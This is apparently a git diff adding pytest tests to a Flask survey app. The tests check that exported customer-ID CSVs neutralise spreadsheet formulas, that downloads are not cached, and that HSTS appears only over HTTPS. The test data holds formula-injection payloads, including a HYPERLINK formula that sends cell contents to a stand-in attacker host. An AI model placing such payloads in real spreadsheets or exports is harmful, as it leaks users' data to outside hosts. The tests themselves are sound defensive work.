@@ -6,6 +6,7 @@ Real SQLite and PostgreSQL through the `db_url`/`app` fixtures of web_support; n
 
 from __future__ import annotations
 
+import html
 import re
 from datetime import datetime
 from pathlib import Path
@@ -14,6 +15,7 @@ from urllib.parse import quote
 
 import pytest
 import sqlalchemy as sa
+from author_support import page_token, signed_in
 from flask import Flask, url_for
 from flask.testing import FlaskClient
 from sqlalchemy.orm import Session
@@ -22,8 +24,9 @@ from web_support import EXAMPLE, first_page_token, response_rows
 from surveys.definition import build_survey, parse_survey_text
 from surveys.errors import InvalidDefinition
 from webapp.accounts.service import create_user
-from webapp.services import create_invitations, publish_survey
+from webapp.app import create_app
 from webapp.cli import main
+from webapp.services import create_invitations, publish_survey
 from webapp.services.errors import HostingError
 from webapp.services.export import export_responses
 from webapp.storage.engine import create_engine_for, open_session
@@ -241,3 +244,100 @@ def test_cli_export_failure_is_a_clear_error_and_no_file(
     assert exited.value.code != 0
     assert "cannot export responses" in capsys.readouterr().err
     assert _folder_listing(folder) == []
+
+
+# --- 4. link lists are formula-guarded; downloads are not cached; HSTS over https --------------------------
+
+HOSTILE_IDS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "@SUM(1)", "-2", "C1"]
+GUARDED_IDS = ["'" + value if value[0] in "=+-@" else value for value in HOSTILE_IDS]
+
+
+def _customer_file(path: Path) -> Path:
+    import csv
+
+    with path.open("w", newline="", encoding="utf-8") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["customer_id"])
+        writer.writerows([value] for value in HOSTILE_IDS)
+    return path
+
+
+def _stored_customer_ids(db_url: str) -> list[str]:
+    engine = create_engine_for(db_url)
+    try:
+        with engine.connect() as connection:
+            return list(connection.scalars(sa.text("select customer_id from invitations order by id")))
+    finally:
+        engine.dispose()
+
+
+def test_cli_links_csv_guards_formulas(db: Session, db_url: str, tmp_path: Path,
+                                       monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
+    import csv
+
+    publish_survey(db, _count_survey())
+    db.commit()
+    monkeypatch.setenv("CXROI_DATABASE_URL", db_url)
+    links = tmp_path / "links.csv"
+    try:
+        main(["invite", "counts", "--customers", str(_customer_file(tmp_path / "customers.csv")),
+              "--channel", "email", "-o", str(links)])
+    except SystemExit as done:
+        assert not done.code, capsys.readouterr().err
+    rows = list(csv.DictReader(links.open(encoding="utf-8")))
+    assert [row["customer_id"] for row in rows] == GUARDED_IDS
+    assert _stored_customer_ids(db_url) == HOSTILE_IDS  # the stored id (the join key) is unchanged
+
+
+def test_links_page_csv_guards_formulas_and_is_not_cached(app: Flask, db_url: str) -> None:
+    import csv
+    import io
+
+    client = signed_in(app, db_url, "author")
+    token = page_token(client, "/author/new")
+    assert client.post("/author/new", data={"survey_id": "acme", "title": "Acme", "start": "relationship",
+                                            "csrf_token": token}).status_code == 302
+    assert client.post("/author/acme/publish", data={"csrf_token": token}).status_code == 302
+    content = "customer_id\n" + "".join(
+        '"' + value.replace('"', '""') + '"\n' for value in HOSTILE_IDS)
+    preview = client.post("/author/acme/links/preview", content_type="multipart/form-data", data={
+        "csrf_token": token, "channel": "", "customers": (io.BytesIO(content.encode()), "customers.csv")})
+    assert preview.status_code == 200, preview.get_data(as_text=True)[:800]
+    ids = re.search(r'name="customer_ids"[^>]*value="([^"]*)"', preview.get_data(as_text=True))
+    assert ids
+    created = client.post("/author/acme/links/create", data={
+        "csrf_token": token, "customer_ids": html.unescape(ids.group(1)), "channel": ""})
+    assert created.status_code == 200 and created.mimetype == "text/csv"
+    assert created.headers["Cache-Control"] == "no-store"
+    rows = list(csv.DictReader(io.StringIO(created.get_data(as_text=True))))
+    assert [row["customer_id"] for row in rows] == GUARDED_IDS
+    assert _stored_customer_ids(db_url) == HOSTILE_IDS
+
+    for path in ("/author/acme/definition.yaml", "/author/acme/definition.json", "/author/acme/definition.xlsx",
+                 "/author/acme/stored-draft.json"):
+        download = client.get(path)
+        assert download.status_code == 200 and download.headers["Cache-Control"] == "no-store", path
+
+
+def test_response_exports_are_not_cached(app: Flask, db: Session, db_url: str) -> None:
+    publish_survey(db, _count_survey())
+    db.commit()
+    client = signed_in(app, db_url, "analyst")
+    for kind in ("csv", "xlsx"):
+        download = client.get(f"/results/counts/responses.{kind}")
+        assert download.status_code == 200, kind
+        assert download.headers["Cache-Control"] == "no-store"  # send_file's no-cache would let a cache keep it
+        assert "attachment" in download.headers["Content-Disposition"]
+        assert "Strict-Transport-Security" not in download.headers  # plain-http test app
+
+
+def test_hsts_only_when_served_over_https(db_url: str, tmp_path: Path) -> None:
+    def app_with(**settings: Any) -> Flask:
+        return create_app({"DATABASE_URL": db_url, "INSTANCE_PATH": str(tmp_path / "instance"), "TESTING": True,
+                           "SECRET_KEY": "test-secret", **settings})
+
+    secure = app_with(SECURE_COOKIES=True).test_client().get("/login")
+    assert secure.headers["Strict-Transport-Security"] == "max-age=31536000"
+    plain = app_with(SECURE_COOKIES=False).test_client()
+    assert "Strict-Transport-Security" not in plain.get("/login").headers
+    assert "Strict-Transport-Security" in plain.get("/login", base_url="https://localhost").headers
